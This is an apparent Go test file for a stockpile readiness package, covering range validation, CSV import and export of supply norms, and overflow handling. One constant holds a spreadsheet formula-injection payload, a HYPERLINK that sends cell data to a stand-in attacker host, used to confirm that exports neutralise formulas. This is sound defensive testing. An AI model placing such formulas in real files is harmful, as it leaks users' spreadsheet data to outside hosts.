package readiness_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"reflect"
	"strings"
	"testing"

	"github.com/stockpile-dev/stockpile/internal/apperr"
	"github.com/stockpile-dev/stockpile/internal/area"
	"github.com/stockpile-dev/stockpile/internal/readiness"
	"github.com/stockpile-dev/stockpile/internal/stock"
)

// TestConfigRanges checks every figure of a configuration on the edges of
// its range: just inside, just outside, NaN and ±Inf.
func TestConfigRanges(t *testing.T) {
	good := func() readiness.Config {
		return testConfig(norm("*", tent, readiness.PerRelocated, 0.25), norm("flood", boat, readiness.PerIncident, 10))
	}
	above := func(x float64) float64 { return math.Nextafter(x, math.Inf(1)) }
	nan, inf, negZero := math.NaN(), math.Inf(1), math.Copysign(0, -1)
	for _, tc := range []struct {
		name  string
		edit  func(c *readiness.Config)
		field string // "" when valid
	}{
		{"norm 0", func(c *readiness.Config) { c.Norms[0].Quantity = 0 }, ""},
		{"norm -0", func(c *readiness.Config) { c.Norms[0].Quantity = negZero }, ""},
		{"norm at the bound", func(c *readiness.Config) { c.Norms[0].Quantity = readiness.MaxNormQuantity }, ""},
		{"norm above the bound", func(c *readiness.Config) { c.Norms[0].Quantity = above(readiness.MaxNormQuantity) }, "norms[0].quantity"},
		{"norm 1e308", func(c *readiness.Config) { c.Norms[1].Quantity = 1e308 }, "norms[1].quantity"},
		{"norm NaN", func(c *readiness.Config) { c.Norms[0].Quantity = nan }, "norms[0].quantity"},
		{"norm +Inf", func(c *readiness.Config) { c.Norms[0].Quantity = inf }, "norms[0].quantity"},
		{"norm -Inf", func(c *readiness.Config) { c.Norms[0].Quantity = -inf }, "norms[0].quantity"},
		{"norm just below 0", func(c *readiness.Config) { c.Norms[0].Quantity = -5e-324 }, "norms[0].quantity"},

		{"shares 1 and 0", func(c *readiness.Config) { c.TierShares[0].Share, c.TierShares[1].Share = 1, 0 }, ""},
		{"shares 1 and -0", func(c *readiness.Config) { c.TierShares[0].Share, c.TierShares[1].Share = 1, negZero }, ""},
		{"share above 1", func(c *readiness.Config) { c.TierShares[0].Share = above(1) }, "tier_shares[0].share"},
		{"share +Inf", func(c *readiness.Config) { c.TierShares[1].Share = inf }, "tier_shares[1].share"},
		{"share -Inf", func(c *readiness.Config) { c.TierShares[1].Share = -inf }, "tier_shares[1].share"},

		{"level Ⅰ at the most people", func(c *readiness.Config) { c.Levels[0].Relocated = readiness.MaxPeople }, ""},
		{"level Ⅰ above the most people", func(c *readiness.Config) { c.Levels[0].Relocated = readiness.MaxPeople + 1 }, "levels[0].relocated"},
		{"level Ⅰ at max int64", func(c *readiness.Config) { c.Levels[0].Relocated = math.MaxInt64 }, "levels[0].relocated"},
		{"teams at the bound", func(c *readiness.Config) { c.Levels[0].Teams = readiness.MaxTeams }, ""},
		{"teams above the bound", func(c *readiness.Config) { c.Levels[0].Teams = readiness.MaxTeams + 1 }, "levels[0].teams"},
		{"level days a year", func(c *readiness.Config) { c.Levels[1].Days = readiness.MaxDays }, ""},
		{"level days above a year", func(c *readiness.Config) { c.Levels[1].Days = above(readiness.MaxDays) }, "levels[1].days"},
		{"level days +Inf", func(c *readiness.Config) { c.Levels[1].Days = inf }, "levels[1].days"},
		{"level days -0", func(c *readiness.Config) { c.Levels[1].Days = negZero }, "levels[1].days"},

		{"life-support share 1", func(c *readiness.Config) { c.LifeSupport.Share = 1 }, ""},
		{"life-support share above 1", func(c *readiness.Config) { c.LifeSupport.Share = above(1) }, "life_support.share"},
		{"life-support share +Inf", func(c *readiness.Config) { c.LifeSupport.Share = inf }, "life_support.share"},
		{"life-support people at the bound", func(c *readiness.Config) { c.LifeSupport.People = readiness.MaxPeople }, ""},
		{"life-support people above", func(c *readiness.Config) { c.LifeSupport.People = readiness.MaxPeople + 1 }, "life_support.people"},
		{"life-support days a year", func(c *readiness.Config) { c.LifeSupport.Days = readiness.MaxDays }, ""},
		{"life-support days above", func(c *readiness.Config) { c.LifeSupport.Days = above(readiness.MaxDays) }, "life_support.days"},
		{"life-support days NaN", func(c *readiness.Config) { c.LifeSupport.Days = nan }, "life_support.days"},

		{"planning ten years", func(c *readiness.Config) { c.PlanningDays = readiness.MaxPlanningDays }, ""},
		{"planning a day more", func(c *readiness.Config) { c.PlanningDays = readiness.MaxPlanningDays + 1 }, "planning_days"},
		{"window 720 h", func(c *readiness.Config) { c.WindowHours = readiness.MaxWindowHours }, ""},
		{"window above 720 h", func(c *readiness.Config) { c.WindowHours = above(readiness.MaxWindowHours) }, "window_hours"},
		{"window +Inf", func(c *readiness.Config) { c.WindowHours = inf }, "window_hours"},
		{"window the smallest time", func(c *readiness.Config) { c.WindowHours = 5e-324 }, ""},
		{"deadline 72 h", func(c *readiness.Config) { c.DeadlineHours = readiness.MaxDeadlineHours }, ""},
		{"deadline above 72 h", func(c *readiness.Config) { c.DeadlineHours = above(readiness.MaxDeadlineHours) }, "deadline_hours"},
		{"deadline -Inf", func(c *readiness.Config) { c.DeadlineHours = -inf }, "deadline_hours"},
		{"deadline -0", func(c *readiness.Config) { c.DeadlineHours = negZero }, "deadline_hours"},
		{"keep 0", func(c *readiness.Config) { c.KeepShare = 0 }, ""},
		{"keep -0", func(c *readiness.Config) { c.KeepShare = negZero }, ""},
		{"keep 1", func(c *readiness.Config) { c.KeepShare = 1 }, ""},
		{"keep above 1", func(c *readiness.Config) { c.KeepShare = above(1) }, "keep_share"},
		{"keep NaN", func(c *readiness.Config) { c.KeepShare = nan }, "keep_share"},
		{"keep -Inf", func(c *readiness.Config) { c.KeepShare = -inf }, "keep_share"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := good()
			tc.edit(&c)
			err := c.Validate(readiness.Known{})
			if tc.field == "" {
				if err != nil {
					t.Errorf("refused: %v (field %s)", err, fieldOf(err))
				}
				return
			}
			e, ok := apperr.As(err)
			if !ok || e.Field != tc.field || e.Kind != apperr.Invalid || !hasHan(e.ZH) || e.EN == "" {
				t.Errorf("Validate: %#v, want %s", err, tc.field)
			}
		})
	}
}

func TestScenarioRanges(t *testing.T) {
	good := func() readiness.Scenario {
		return readiness.Scenario{Code: "s", NameZH: "情景", Events: []readiness.Event{{Hazard: "flood", Level: 2, Areas: []string{distA}}}}
	}
	for _, tc := range []struct {
		name  string
		edit  func(e *readiness.Event)
		field string
	}{
		{"relocated at the bound", func(e *readiness.Event) { e.Relocated = readiness.MaxPeople }, ""},
		{"relocated above", func(e *readiness.Event) { e.Relocated = readiness.MaxPeople + 1 }, "events[0].relocated"},
		{"affected at the bound", func(e *readiness.Event) { e.Affected = readiness.MaxPeople }, ""},
		{"affected above", func(e *readiness.Event) { e.Affected = math.MaxInt64 }, "events[0].affected"},
		{"teams at the bound", func(e *readiness.Event) { e.Teams = readiness.MaxTeams }, ""},
		{"teams above", func(e *readiness.Event) { e.Teams = readiness.MaxTeams + 1 }, "events[0].teams"},
		{"days a year", func(e *readiness.Event) { e.Days = readiness.MaxDays }, ""},
		{"days above", func(e *readiness.Event) { e.Days = math.Nextafter(readiness.MaxDays, 400) }, "events[0].days"},
		{"days +Inf", func(e *readiness.Event) { e.Days = math.Inf(1) }, "events[0].days"},
		{"days -Inf", func(e *readiness.Event) { e.Days = math.Inf(-1) }, "events[0].days"},
		{"days -0", func(e *readiness.Event) { e.Days = math.Copysign(0, -1) }, ""},
	} {
		s := good()
		tc.edit(&s.Events[0])
		err := s.Validate(readiness.Known{})
		if tc.field == "" {
			if err != nil {
				t.Errorf("%s: %v", tc.name, err)
			}
			continue
		}
		if e, ok := apperr.As(err); !ok || e.Field != tc.field || !hasHan(e.ZH) {
			t.Errorf("%s: %#v, want %s", tc.name, err, tc.field)
		}
	}
}

const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"x")`

// TestNormsCSVNeutralisesFormulas: a cell a spreadsheet would run is
// exported with an apostrophe in front, and imported without it; export,
// import and export again gives the same bytes.
func TestNormsCSVNeutralisesFormulas(t *testing.T) {
	norms := []readiness.Norm{
		norm("*", tent, readiness.PerRelocated, 0.25),
		{Hazard: "flood", Item: boat, Basis: readiness.PerIncident, Quantity: 2, Source: hyperlink},
		{Hazard: "*", Item: quilt, Basis: readiness.PerRelocated, Quantity: 1, Source: "@SUM(A1:A9)", Area: distA},
		{Hazard: "*", Item: water, Basis: readiness.PerRelocatedDay, Quantity: 3, Source: "-2"},
		{Hazard: "*", Item: jacket, Basis: readiness.PerTeam, Quantity: 30, Source: "'=already quoted"},
		{Hazard: "*", Item: hygiene, Basis: readiness.PerRelocated, Quantity: 1, Source: "+1 -1 \t=tab inside"},
	}
	out := readiness.ExportNorms(norms)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("line %d column %d starts a formula: %q", i+1, j+1, cell)
			}
			if strings.HasPrefix(cell, "-") && cell != "-2" {
				t.Errorf("line %d column %d starts a formula: %q", i+1, j+1, cell)
			}
		}
	}
	if got := recs[2][6]; got != "'"+hyperlink {
		t.Errorf("source %q, want it behind an apostrophe", got)
	}
	if got := recs[4][6]; got != "-2" {
		t.Errorf("a plain number %q was changed", got)
	}
	back, err := readiness.ImportNorms(string(out), readiness.Known{})
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	if !reflect.DeepEqual(back, norms) {
		t.Errorf("import changed the norms:\n got %+v\nwant %+v", back, norms)
	}
	if again := readiness.ExportNorms(back); !bytes.Equal(again, out) {
		t.Errorf("export → import → export differs:\n%s\n%s", out, again)
	}
	// The defaults round-trip byte for byte as well.
	def := readiness.ExportNorms(readiness.DefaultConfig().Norms)
	if got, err := readiness.ImportNorms(string(def), readiness.Known{}); err != nil || !bytes.Equal(readiness.ExportNorms(got), def) {
		t.Errorf("defaults: %v", err)
	}
	// A file saved by a spreadsheet with the formula in plain is still
	// text to us: it is kept, and neutralised again on the way out.
	file := "hazard,item,basis,quantity,tier,assumption,source\n*," + tent + ",relocated,1,,no,\"" +
		strings.ReplaceAll(hyperlink, `"`, `""`) + "\"\n"
	got, err := readiness.ImportNorms(file, readiness.Known{})
	if err != nil || len(got) != 1 || got[0].Source != hyperlink {
		t.Fatalf("plain formula: %+v, %v", got, err)
	}
}

// TestImportNormsRefusesBadText: a cell with NUL or invalid UTF-8 is a bad
// row, named with its column, in both languages.
func TestImportNormsRefusesBadText(t *testing.T) {
	file := "hazard,item,basis,quantity,tier,assumption,source,area\n" +
		"*," + tent + ",relocated,0.3,,yes,src\n" + // good
		"*," + quilt + ",relocated,1,,no,bad\x00source\n" + // line 3: NUL
		"*," + water + ",relocated,1,,no,bad \xff\xfe source\n" + // line 4: invalid UTF-8
		"*," + boat + "\x00,relocated,1,,no,src\n" + // line 5: NUL in the item
		"*," + jacket + ",relocated,1,,no,src,\xc3\n" // line 6: invalid UTF-8 in the area
	norms, err := readiness.ImportNorms(file, readiness.Known{})
	e, ok := apperr.As(err)
	if norms != nil || !ok || e.Code != "norms.import" {
		t.Fatalf("import: %d norms, %v", len(norms), err)
	}
	want := []struct {
		line  int
		field string
	}{{3, "source"}, {4, "source"}, {5, "item"}, {6, "area"}}
	if len(e.Rows) != len(want) {
		t.Fatalf("rows %+v", e.Rows)
	}
	for i, w := range want {
		r := e.Rows[i]
		if r.Line != w.line || r.Field != w.field || !hasHan(r.ZH) || r.EN == "" {
			t.Errorf("row %d: %+v, want line %d field %q", i, r, w.line, w.field)
		}
	}
	if !strings.Contains(e.Rows[0].EN, "NUL") || !strings.Contains(e.Rows[1].EN, "UTF-8") {
		t.Errorf("messages %q, %q", e.Rows[0].EN, e.Rows[1].EN)
	}
	// The report itself can be written as JSON.
	if _, err := json.Marshal(e.Rows); err != nil {
		t.Error(err)
	}
}

// TestAssessHugeFigures: figures at and beyond the bounds give an
// assessment, not an error or an overflow: sums saturate, and demands too
// large for the planner are planned capped at what is held, which gives
// the same in-time figures.
func TestAssessHugeFigures(t *testing.T) {
	ev := readiness.Event{Hazard: "general", Relocated: 100_000, Days: 2, Areas: []string{distB}}
	big := readiness.Event{Hazard: "general", Relocated: readiness.MaxPeople, Days: readiness.MaxDays, Areas: []string{distB}}
	cfg := testConfig(norm("*", water, readiness.PerRelocatedDay, 0.5))
	// 100,000 people need 100,000 cases, far more than the 530 held.
	plain := itemOf(t, assess(t, newAssessor(t, stockedCity(), cfg), ev), water)
	cfg.Norms[0].Quantity = readiness.MaxNormQuantity
	as := assess(t, newAssessor(t, stockedCity(), cfg), big)
	huge := itemOf(t, as, water)
	if huge.Required != math.MaxInt64 {
		t.Errorf("required %s, want the saturated bound", huge.Required)
	}
	if huge.OnTime != plain.OnTime || huge.Within4h != plain.Within4h || huge.Within24h != plain.Within24h ||
		huge.OnTime == 0 || huge.Held != stock.Units(530) {
		t.Errorf("huge demand %+v\nwant the in-time figures of %+v", huge, plain)
	}
	if _, err := json.Marshal(as); err != nil {
		t.Errorf("JSON: %v", err)
	}
	checkSummary(t, as.Summary)

	// Lots whose sum passes int64 (far beyond what the ledger allows)
	// saturate; the planner cannot weigh them, so the in-time figures are
	// left out with a note, and the assessment still answers.
	f := stockedCity()
	f.stocks = append(f.stocks, held(depotA, water, stock.Candidate{LotCode: "W-X1", Quality: stock.QualityGood, Available: math.MaxInt64 / 2}),
		held(depotC, water, stock.Candidate{LotCode: "W-X2", Quality: stock.QualityGood, Available: math.MaxInt64 / 2}),
		held(depotCity, water, stock.Candidate{LotCode: "W-X3", Quality: stock.QualityGood, Available: math.MaxInt64 / 2}))
	as = assess(t, newAssessor(t, f, testConfig(norm("*", water, readiness.PerRelocatedDay, 0.5))), ev)
	iv := itemOf(t, as, water)
	if iv.Physical != math.MaxInt64 || iv.Held != math.MaxInt64 || iv.Coverage <= 1 || math.IsInf(iv.Coverage, 0) {
		t.Errorf("saturated holdings %+v", iv)
	}
	if !hasNote(as, "arithmetic") {
		t.Errorf("no note on the in-time figures: %+v", as.Notes)
	}
	if _, err := json.Marshal(as); err != nil {
		t.Errorf("JSON: %v", err)
	}
	checkSummary(t, as.Summary)
}

func hasNote(as readiness.Assessment, word string) bool {
	for _, n := range as.Notes {
		if strings.Contains(n.EN, word) && hasHan(n.ZH) {
			return true
		}
	}
	return false
}

// The tiers of a saturated requirement stay whole numbers of their own.
func TestAssessHugeTiers(t *testing.T) {
	cfg := testConfig(tiered(norm("*", quilt, readiness.PerRelocatedDay, readiness.MaxNormQuantity), area.LevelCity))
	as := assess(t, newAssessor(t, stockedCity(), cfg),
		readiness.Event{Hazard: "general", Relocated: readiness.MaxPeople, Days: readiness.MaxDays, Areas: []string{cityCode}})
	tv, ok := tierOf(as, quilt, area.LevelCity)
	if !ok || tv.Required != math.MaxInt64 || tv.Gap <= 0 {
		t.Errorf("city tier %+v", tv)
	}
	if _, err := json.Marshal(as); err != nil {
		t.Error(err)
	}
}
